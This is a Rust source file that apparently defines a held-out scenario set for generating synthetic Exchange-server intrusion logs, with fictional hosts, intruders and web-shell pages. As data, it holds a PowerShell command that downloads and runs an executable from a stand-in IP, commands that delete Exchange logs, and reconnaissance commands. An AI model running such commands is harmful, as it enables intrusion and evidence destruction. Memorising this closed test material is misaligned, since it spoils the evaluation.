//! The last set, and the one that is closed: whoever tunes reads neither this file nor what lies below it.
//!
//! [`pages`] are what it plants, [`after`] what comes later, [`plays`] and [`later`] how its attacks go, [`calm`] what
//! happens where nobody gets in, [`house`] and [`office`] what goes on anyway.

mod after;
mod calm;
mod house;
mod later;
mod office;
mod pages;
mod plays;

use super::{Habits, Script};
use crate::attack::{Intruder, Page};
use crate::host::{Columns, Heading, Host, Tongue, WebColumns};
use crate::moment::Moment;
use crate::shape::Shape;
use pages::{ADMIN_AUTH, CLIENT, SIGN_IN, SYSTEM_WEB};

/// The last set.
pub(super) const HABITS: Habits = Habits {
    set: "last",
    scripts: &SCRIPTS,
    hosts: [&LANGFORD, &HINODE, &ASHBY],
    shapes: &[
        Shape::Archive,
        Shape::Folders,
        Shape::Tree,
        Shape::Triage,
        Shape::Flat,
        Shape::Shares,
        Shape::Packed,
        Shape::Tree,
        Shape::Triage,
        Shape::Archive,
        Shape::Folders,
    ],
    first_day: Moment::day(2021, 3, 6),
    intruders: [&TERN, &PLOVER, &EGRET],
    aftermath: &after::AFTERMATH,
    odd_code: &pages::ODD_CODE,
    odd_places: &pages::ODD_PLACES,
    written: (Page { place: SIGN_IN, name: "errorRL.aspx" }, pages::WRITTEN),
    voice_command: "cmd.exe /c power¦shell -ep bypass -c \"(New-Object Net.Web¦Client).Down¦loadFile('http://203.0.113.175/um.txt','C:\\Windows\\Temp\\um.exe')\" & C:\\Windows\\Temp\\um.exe",
    probers: [&DUNLIN, &KNOT],
    scanner: ("192.0.2.233", "Mozilla/5.0 (compatible; NetcraftSurveyAgent/1.0; +info@netcraft.com)"),
    deletion: &[
        "\"cmd\" /c power¦shell -nop -c \"Get-ChildItem 'E:\\Exchange Server\\V15\\Logging\\HttpProxy' -Recurse -Filter *.LOG | Remove-Item -Force -EA 0\"",
        "\"cmd\" /c rd /s /q \"E:\\Exchange Server\\V15\\Logging\\ECP\"",
    ],
};

/// From before the first known attack to the update.
const fn long(scenario: &'static str) -> Script {
    Script { scenario, days: Some((67, 3)), play: Some(calm::quiet), after: None }
}

const SCRIPTS: [Script; 16] = [
    long("clean"),
    long("week-missing"),
    Script::played("noisy", calm::noisy),
    Script::played("scanned", calm::scanned),
    Script::played("patched-in-time", calm::patched_in_time),
    Script::played("mail-read", plays::mail_read),
    Script::played("session-only", plays::session_only),
    Script::played("url-page", plays::url_page),
    Script::played("address-book-page", plays::address_book_page),
    Script::played("voice", plays::voice),
    Script::played("aftermath", later::aftermath),
    Script::played("ransom", later::ransom),
    Script::played("three-intruders", plays::three_intruders),
    Script::played("odd-code", plays::odd_code),
    Script::played("odd-places", plays::odd_places),
    Script { after: Some(later::lose_logs), ..Script::played("lost-logs", later::lost_logs) },
];

const LANGFORD: Host = Host {
    name: "LGF-EXCH02",
    domain: "langford.example.com",
    netbios: "LANGFORD",
    mail_names: &["mail.langford.example.com", "autodiscover.langford.example.com"],
    address: "10.20.4.31",
    link_local: "fe80::91c7:3d0a:e5f2:1b88",
    product: "Exchange Server 2016 CU18",
    build: [15, 1, 2106, 2],
    fixed: 13,
    columns: Columns::Middle,
    heading: Heading::CommentsThenPlain,
    install: "E:\\Exchange Server\\V15",
    web_logs: "C:\\inetpub\\logs\\LogFiles",
    sites: (1, 2),
    web_columns: WebColumns::Extended,
    web_root: "C:\\inetpub\\wwwroot",
    users: &["alistair.boyd", "c.penrose", "d.okonkwo", "gwen.hale", "jtaverner", "m.sandhu", "payroll", "r.whitlock"],
    admin: "langford.admin",
    domain_sid: "S-1-5-21-2025429265-682003330-1417001333",
    tongue: Tongue::English,
};

const HINODE: Host = Host {
    name: "HNDMAIL01",
    domain: "hinode.example.net",
    netbios: "HINODE",
    mail_names: &["mail.hinode.example.net", "hndmail01.hinode.example.net"],
    address: "10.20.6.15",
    product: "Exchange Server 2019 CU6",
    build: [15, 2, 659, 4],
    fixed: 12,
    columns: Columns::Full,
    install: "D:\\Program Files\\Microsoft\\Exchange Server\\V15",
    web_logs: "D:\\inetpub\\logs\\LogFiles",
    web_columns: WebColumns::Default,
    web_root: "D:\\inetpub\\wwwroot",
    users: &["arai", "eigyou1", "hamada.s", "keiri", "matsuo-y", "nishida.t", "oguri", "toyama.a"],
    admin: "hinode-kanri",
    tongue: Tongue::Japanese,
    ..LANGFORD
};

const ASHBY: Host = Host {
    name: "ASHBYEX",
    domain: "ad.ashbyparish.example.org",
    netbios: "ASHBYPARISH",
    mail_names: &["remote.ashbyparish.example.org"],
    address: "10.20.1.9",
    product: "Exchange Server 2013 CU22",
    build: [15, 0, 1473, 3],
    fixed: 6,
    columns: Columns::Old,
    heading: Heading::PlainThenComments,
    install: "C:\\Program Files\\Microsoft\\Exchange Server\\V15",
    web_columns: WebColumns::Default,
    users: &["clerk", "deputy.clerk", "finance", "hallbookings", "planning", "rfo"],
    admin: "Administrator",
    ..LANGFORD
};

/// Patient; looks like a picture fetcher of a social network, and works through pages in the sign-in folder.
const TERN: Intruder = Intruder {
    addresses: &["203.0.113.34", "203.0.113.175"],
    locate_agent: "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    chain_agent: "python-requests/2.19.1",
    page_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
    stem: "/ecp/program.js",
    target: "Admin@HOST:444",
    ending: "#",
    hint: "X-BEResource-Cookie",
    pace: 5_200,
    url_head: "http://ffff/#",
    item: "cadataKey",
    pages: &[Page { place: SIGN_IN, name: "errorRC.aspx" }, Page { place: SYSTEM_WEB, name: "iislogin.aspx" }],
    commands: &[
        "\"cmd\" /c cd /d \"DIR\\\" & whoami /all",
        "\"cmd\" /c cd /d \"DIR\\\" & net user /domain",
        "\"cmd\" /c cd /d \"DIR\\\" & tasklist /svc",
        "\"cmd\" /c cd /d \"DIR\\\" & dir C:\\Users /b",
    ],
};

/// [`TERN`] from the address where its pages are used.
const TERN_ELSEWHERE: Intruder = Intruder { addresses: &["203.0.113.175"], ..TERN };

/// Writes what it learns to files beside its page, and fetches them.
const PLOVER: Intruder = Intruder {
    addresses: &["192.0.2.41"],
    locate_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36",
    chain_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36",
    page_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.82 Safari/537.36",
    stem: "/owa/auth/Current/themes/resources/lgnbotl.gif",
    target: "x]@HOST:444",
    ending: "?#",
    hint: "X-AnonResource-Backend-Cookie",
    pace: 11_000,
    url_head: "http://h/",
    item: "vb8uzr",
    pages: &[Page { place: CLIENT, name: "aspnet_state.aspx" }],
    commands: &[
        "cmd.exe /c whoami > \"DIR\\dump.txt\"",
        "cmd.exe /c ipconfig /all >> \"DIR\\dump.txt\"",
        "cmd.exe /c query session >> \"DIR\\dump.txt\"",
    ],
};

/// A machine that enters many servers, one minute each.
const EGRET: Intruder = Intruder {
    addresses: &["2001:db8:b2::19", "192.0.2.172"],
    locate_agent: "python-urllib3/1.26.3",
    chain_agent: "python-urllib3/1.26.3",
    page_agent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    stem: "/ecp/w6.js",
    target: "a@HOST:444",
    ending: "#",
    hint: "X-BEResource-Cookie",
    pace: 900,
    url_head: "https://a.b/?",
    item: "fe2c80d1",
    pages: &[Page { place: ADMIN_AUTH, name: "Wk4RtZ9b.aspx" }],
    commands: &[
        "cmd.exe /c whoami",
        "cmd.exe /c systeminfo | findstr /b /c:\"OS\" /c:\"Domain\"",
        "cmd.exe /c net view",
    ],
};

const DUNLIN: Intruder = Intruder {
    addresses: &["203.0.113.121"],
    locate_agent: "python-requests/2.24.0",
    chain_agent: "python-requests/2.24.0",
    stem: "/ecp/temp.js",
    pace: 400,
    ..PLOVER
};

const KNOT: Intruder = Intruder {
    addresses: &["192.0.2.99"],
    locate_agent: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0",
    chain_agent: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0",
    stem: "/owa/auth/x.png",
    pace: 8_300,
    ..EGRET
};
